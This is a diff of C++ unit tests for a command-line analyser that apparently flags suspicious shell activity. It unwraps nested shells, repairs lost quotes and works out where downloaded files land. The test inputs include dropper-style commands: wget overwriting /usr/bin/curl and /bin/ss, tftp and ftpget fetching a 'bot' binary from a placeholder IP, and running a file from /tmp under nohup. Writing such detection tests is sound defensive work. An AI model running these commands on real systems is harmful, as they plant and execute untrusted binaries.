@@ -66,6 +66,11 @@ TEST(CommandLine, SeesThroughShellsAndWrappers) {
 
 TEST(CommandLine, MendsShellTextWhoseQuotesTheAgentLost) {
     EXPECT_THAT(texts("/bin/sh -c ip -a -o link"), Contains("ip -a -o link"));
+    EXPECT_THAT(texts("/bin/sh -c cd /tmp; echo 'a;b' | sh"),
+                ElementsAre("/bin/sh -c cd /tmp; echo 'a;b' | sh", "cd /tmp", "echo a;b", "sh", "a", "b"));
+    EXPECT_THAT(texts("nohup timeout 5 bash -lc id && w"), ElementsAre("bash -lc id && w", "id", "w"));
+    EXPECT_THAT(texts("sh -c 'id' && w"), ElementsAre("sh -c id", "w", "id"));
+    EXPECT_TRUE(any_has("sh -c cd /tmp; nohup ./x", Fact::RunsLocalInTemp));
 }
 
 TEST(CommandLine, UnwrapsFiveDeepAndNoDeeper) {
@@ -213,6 +218,8 @@ TEST(CommandLine, KnowsWhereFilesAreLeft) {
     EXPECT_THAT(left("wget -P /usr/bin http://a.example/curl"), ElementsAre("/usr/bin/curl"));
     EXPECT_THAT(left("wget --output-document=/bin/ss http://a.example/x"), ElementsAre("/bin/ss"));
     EXPECT_THAT(left("wget -qO- http://a.example/x"), ElementsAre());
+    EXPECT_THAT(left("wget -q 203.0.113.5/d/x?a=b"), ElementsAre("x"));
+    EXPECT_THAT(left("sftp -P 22 u@a.example:/d/x /opt/y"), Contains("/opt/y"));
     EXPECT_THAT(left("tftp -g -r bot -l /tmp/b 203.0.113.5"), ElementsAre("/tmp/b"));
     EXPECT_THAT(left("tftp 203.0.113.5 -c get bot"), ElementsAre("bot"));
     EXPECT_THAT(left("ftpget -u a -p b 203.0.113.5 /tmp/x y"), ElementsAre("/tmp/x"));
